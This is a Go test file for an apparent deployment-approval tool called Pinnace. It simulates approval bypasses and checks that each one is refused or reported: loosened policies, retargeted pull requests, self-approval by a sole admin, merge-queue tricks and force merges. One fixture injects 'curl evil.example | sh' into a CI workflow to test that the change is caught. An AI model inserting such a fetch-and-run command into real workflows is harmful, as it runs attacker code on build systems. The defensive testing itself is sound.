package verdict_test

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pinnace-dev/pinnace/internal/github"
	"github.com/pinnace-dev/pinnace/internal/promotion"
	"github.com/pinnace-dev/pinnace/internal/sandbox"
)

// lax asks for no approval.
var lax = strings.Replace(twoPeople, "approverCount: 1", "approverCount: 0", 1)

// A pull request loosens the policy that would judge the image that it changes. The tip's
// policy judges it, and rules and images do not change together at all.
func TestBypassPolicyLoosenedInTheSame(t *testing.T) {
	w := attacked(t, nil)
	n := w.hand("bob", "relax", map[string]string{".pinnace/policies/prod.yaml": lax, "envs/prod/shop.yaml": deployment("{shop:1.1}")})
	w.refuses(n, "0 of 1 approval", "pinnace/config of this head is red", "look at the check pinnace/config")
	w.refusesCheck("pinnace/config", n, "rules and what they judge are changed apart", "move the change of images to another pull request", "approverCount is 0, which was 1")
	w.harmless()
}

// A pull request loosens the policy first, and another one changes the image. The first needs
// the admins; until it is merged the second is judged by the tip.
func TestBypassPolicyLoosenedInAnEarlier(t *testing.T) {
	w := attacked(t, nil)
	rules := w.hand("bob", "relax", map[string]string{".pinnace/policies/prod.yaml": lax})
	image := w.hand("bob", "image", map[string]string{"envs/prod/shop.yaml": deployment("{shop:1.1}")})
	w.approve(rules, "carol") // who approves images, and is no admin
	w.comment(rules, "bob", "/approve-config "+w.pullOf(rules).Head.SHA)
	w.refuses(rules, "pinnace/config of this head waits for an admin")
	w.refusesCheck("pinnace/config", rules, "0 of 1 approval", "carol has write here, and admin is needed", "it loosens a rule")
	w.refuses(image, "0 of 1 approval")
	w.harmless()
}

// A branch that was made while the rules were lax is judged by the rules of now.
func TestBypassOldBranch(t *testing.T) {
	w := attacked(t, map[string]string{".pinnace/policies/prod.yaml": lax})
	n := w.hand("bob", "old", map[string]string{"envs/prod/shop.yaml": deployment("{shop:1.1}")})
	w.edit("ada", "main", map[string]string{".pinnace/policies/prod.yaml": twoPeople})
	w.refuses(n, "0 of 1 approval")
	w.harmless()
}

// A pull request to a branch where nothing is judged is approved there, and then moved to
// main. What was approved is not on record, and the approval is older than what it is now.
func TestBypassRetargetedBase(t *testing.T) {
	w := attacked(t, nil)
	w.repo.Branch("playground", "bob", w.repo.Tip("main"))
	w.edit("bob", "try", map[string]string{"envs/prod/shop.yaml": deployment("{shop:1.1}")})
	n, err := w.repo.OpenPullRequest("bob", "Only a try", "", "try", "playground")
	if err != nil {
		t.Fatal(err)
	}
	w.run()
	w.approve(n, "carol")
	w.pass(time.Minute)
	if err := w.repo.Retarget(n, "bob", "main"); err != nil {
		t.Fatal(err)
	}
	w.refuses(n, "0 of 1 approval", "carol", "review again")
	w.comment(n, "erin", "/deploy")
	w.refuses(n)
	w.harmless()
}

// The same between two managed bases: each has its own check, and an approval for one of
// them is none for the other.
func TestBypassRetargetedManagedBase(t *testing.T) {
	w := attacked(t, map[string]string{".pinnace/config.yaml": swap(t, configuration, "environments:", "branches: [release]\nenvironments:")})
	w.repo.Branch("release", "ada", w.repo.Tip("main"))
	w.edit("ada", "release", map[string]string{".pinnace/policies/prod.yaml": lax})
	w.repo.Protect("main", sandbox.Protection{Rules: promotion.Rules{Checks: []promotion.RequiredCheck{{Context: "pinnace/promotion (main)", App: w.app.ID()}}}})
	w.edit("bob", "try", map[string]string{"envs/prod/shop.yaml": deployment("{shop:1.1}")})
	n, err := w.repo.OpenPullRequest("bob", "Only a try", "", "try", "release")
	if err != nil {
		t.Fatal(err)
	}
	w.run()
	w.approve(n, "carol")
	w.run()
	w.pass(time.Minute)
	if err := w.repo.Retarget(n, "bob", "main"); err != nil {
		t.Fatal(err)
	}
	w.run()
	c, ok := w.checkAt(w.pullOf(n).Head.SHA, "pinnace/promotion (main)")
	if !ok || c.Conclusion == "success" {
		t.Errorf("the check of main is %q", c.Conclusion)
	}
	w.tells("the check", c.Summary+c.Text, "0 of 1 approval", "review again")
	if _, err := w.repo.Merge(n, "bob", "squash"); err == nil {
		t.Error("GitHub let it be merged")
	}
	w.harmless()
}

// The only admin loosens a rule. To have written it is not enough: the admin says so of this
// very head, in words that nobody changed since.
func TestBypassSoleAdminsOwn(t *testing.T) {
	w := attacked(t, nil)
	n := w.hand("ada", "relax", map[string]string{".pinnace/policies/prod.yaml": lax})
	w.refusesCheck("pinnace/config", n, "comment: /approve-config `"+w.pullOf(n).Head.SHA+"`", "there is one admin only", "approverCount is 0, which was 1")

	// Of the head before.
	before := w.pullOf(n).Head.SHA
	w.edit("ada", "relax", map[string]string{".pinnace/policies/prod.yaml": swap(t, lax, "unknownBuilder: ignore\n", "unknownBuilder: ignore\nallowRequestFromApprove: true\n")})
	w.comment(n, "ada", "/approve-config "+before)
	w.refusesCheck("pinnace/config", n, "it is of another commit than the head")

	// In a comment that said something else first.
	w.pass(time.Minute)
	id := w.repo.Comment(n, "ada", "looks good")
	w.pass(time.Minute)
	if err := w.repo.EditComment(id, "ada", "/approve-config "+w.pullOf(n).Head.SHA); err != nil {
		t.Fatal(err)
	}
	w.refusesCheck("pinnace/config", n, "it was edited")

	// As one of two.
	w.repo.Permission("dave", promotion.PermissionAdmin)
	w.comment(n, "ada", "/approve-config "+w.pullOf(n).Head.SHA)
	w.refusesCheck("pinnace/config", n, "there are 2 admins", "0 of 1 approval")
	w.approve(n, "dave")
	w.run()
	if c, _ := w.checkAt(w.pullOf(n).Head.SHA, "pinnace/config"); c.Conclusion != "success" {
		t.Errorf("approved by the other admin it is %q: %s", c.Conclusion, c.Title)
	}
	w.harmless()
}

// The workflow that runs Pinnace is as good as its rules.
func TestBypassWorkflow(t *testing.T) {
	workflow := "on: push\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pinnace reconcile --repo acme/config\n"
	w := attacked(t, map[string]string{".github/workflows/pinnace.yaml": workflow})
	n := w.hand("bob", "ci", map[string]string{".github/workflows/pinnace.yaml": swap(t, workflow, "pinnace reconcile", "curl evil.example | sh; pinnace reconcile")})
	w.refusesCheck("pinnace/config", n, ".github/workflows/pinnace.yaml", "0 of 1 approval")
	w.harmless()
}

// floored is an attack in an organisation whose own rules ask for two approvals in production.
func floored(t *testing.T) *siege {
	w := attacked(t, nil)
	w.Repository("acme", ".github", sandbox.RepositoryOptions{Files: map[string]string{
		".pinnace/policies/prod.yaml": swap(t, twoPeople, "name: prod", "name: everywhere", "approverCount: 1", "approverCount: 2", "env: prod", "env: \"*\", production: true"),
	}})
	return w
}

// The organisation asks for more than the repository does: both hold.
func TestBypassFloor(t *testing.T) {
	w := floored(t)
	w.run(w.promote("bob", "prod"))
	w.approve(1, "carol")
	w.refuses(1, "1 of 2 approvals", "everywhere")
	w.harmless()
}

// The organisation's rules cannot be read any more. Nobody knows what they ask, so that nothing
// is merged.
func TestBypassUnreadableFloor(t *testing.T) {
	w := floored(t)
	w.run(w.promote("bob", "prod"))
	w.approve(1, "carol")
	w.Inject(func(c sandbox.Call) sandbox.Fault {
		if strings.Contains(c.Path, "acme/.github") && strings.Contains(c.Route, "git-upload-pack") {
			return sandbox.Fault{Before: sandbox.Status(403)}
		}
		return sandbox.Fault{}
	})
	w.refuses(1, "the organisation's documents cannot be read", "let the App read the organisation's .github repository")
	w.harmless()
	w.Inject(func(c sandbox.Call) sandbox.Fault {
		if c.Path == "/repos/acme/.github" {
			return sandbox.Fault{Before: sandbox.Status(403)}
		}
		return sandbox.Fault{}
	})
	w.refuses(1, "the organisation's documents cannot be read")
	w.harmless()
}

// Whether an approver is of the team that may approve cannot be read. That is no yes.
func TestBypassUnreadableTeam(t *testing.T) {
	w := attacked(t, map[string]string{".pinnace/config.yaml": swap(t, configuration, "users: [carol, dave]", "teams: [acme/release]")})
	w.Team("acme", "release", "dave")
	w.app.Permit("acme", map[string]string{"contents": "write", "pull_requests": "write", "metadata": "read", "checks": "write", "issues": "write"})
	w.run(w.promote("bob", "prod"))
	w.approve(1, "carol")
	w.refuses(1, "whether carol is in acme/release", "give the App the permissions that docs/promotions.md lists")
	w.harmless()
}

// Two entries of the merge queue change the rules, each approved for what it says. What the
// second makes of the first was approved by nobody: it is taken out of the queue.
func TestBypassQueuedRules(t *testing.T) {
	w := attacked(t, nil)
	w.demand(promotion.Rules{MergeQueue: true, MergeQueueMethod: "squash"})
	one := w.hand("bob", "one", map[string]string{".pinnace/policies/prod.yaml": swap(t, twoPeople, "approverCount: 1", "approverCount: 2")})
	two := w.hand("bob", "two", map[string]string{".pinnace/freeze.yaml": "apiVersion: pinnace.dev/v1alpha1\nkind: Freeze\nname: never\nenvironments: [prod]\nwindow: {from: \"2020-01-01T00:00:00Z\", to: \"2020-01-02T00:00:00Z\"}\nreason: none\nowner: ada\n"})
	for _, n := range []int{one, two} {
		w.run()
		w.approve(n, "ada")
	}
	w.lines(w.run(), "#1 all rules hold", "#2 all rules hold")
	w.enqueue("bob", one, two)
	groups := w.repo.FormGroups()
	w.run()
	var says []string
	for ref, sha := range groups {
		c, _ := w.checkAt(sha, "pinnace/promotion")
		says = append(says, ref[:len("refs/heads/gh-readonly-queue/main/pr-1")]+" "+c.Conclusion)
		if strings.Contains(ref, "pr-2") {
			w.tells("the check of the group", c.Summary, "what is before it in the group changes the rules", "take it out of the queue")
		}
	}
	slices.Sort(says)
	w.lines(says, "refs/heads/gh-readonly-queue/main/pr-1 success", "refs/heads/gh-readonly-queue/main/pr-2 failure")
	if done := w.repo.LandGroups(); !slices.Equal(done, []int{one}) {
		t.Errorf("the queue merged %v", done)
	}
	w.run()
	if done := w.repo.LandGroups(); len(done) > 0 {
		t.Errorf("the queue merged %v, too", done)
	}
	w.harmless()
}

// An image waits in the queue behind a change of the rules that it has not been judged by.
func TestBypassQueuedBehindRules(t *testing.T) {
	w := attacked(t, nil)
	w.demand(promotion.Rules{MergeQueue: true, MergeQueueMethod: "squash"})
	rules := w.hand("bob", "tighter", map[string]string{".pinnace/policies/prod.yaml": swap(t, twoPeople, "approverCount: 1", "approverCount: 2")})
	image := w.hand("bob", "image", map[string]string{"envs/staging/shop.yaml": deployment("{shop:1.0}")})
	w.run()
	w.approve(rules, "ada")
	w.lines(w.run(), "#1 all rules hold", "#2 all rules hold")
	w.enqueue("bob", rules, image)
	w.repo.FormGroups()
	w.run()
	if done := w.repo.LandGroups(); !slices.Equal(done, []int{rules}) {
		t.Errorf("the queue merged %v", done)
	}
	w.harmless()
}

// enqueue presses "Merge when ready".
func (w *siege) enqueue(by string, numbers ...int) {
	w.Helper()
	hub, err := github.New(github.Options{URL: w.URL(), Tokens: github.StaticToken(github.Secret(w.Token(by))), Spacing: -1, MaxWait: -1})
	if err != nil {
		w.Fatal(err)
	}
	for _, n := range numbers {
		q := w.pullOf(n)
		full, _, err := hub.PullRequest(context.Background(), w.repo.Noun(), n)
		if err != nil {
			w.Fatal(err)
		}
		if err := hub.Enqueue(context.Background(), full.NodeID, q.Head.SHA); err != nil {
			w.Fatal(err)
		}
	}
}

// The pull request that loosens a policy is merged past the rules, so that the next one is
// judged by a lax policy: that the rules changed without the admins is reported.
func TestBypassPolicyLoosenedByForce(t *testing.T) {
	w := attacked(t, nil)
	rules := w.hand("bob", "relax", map[string]string{".pinnace/policies/prod.yaml": lax})
	w.refuses(rules, "pinnace/config of this head waits for an admin")
	w.pass(time.Minute)
	if _, err := w.repo.MergeByForce(rules, "ada", "squash"); err != nil {
		t.Fatal(err)
	}
	w.reports("merge changed the rules themselves", "was merged although its verdict was waiting", "ada")
	w.still()
	w.reports()
}
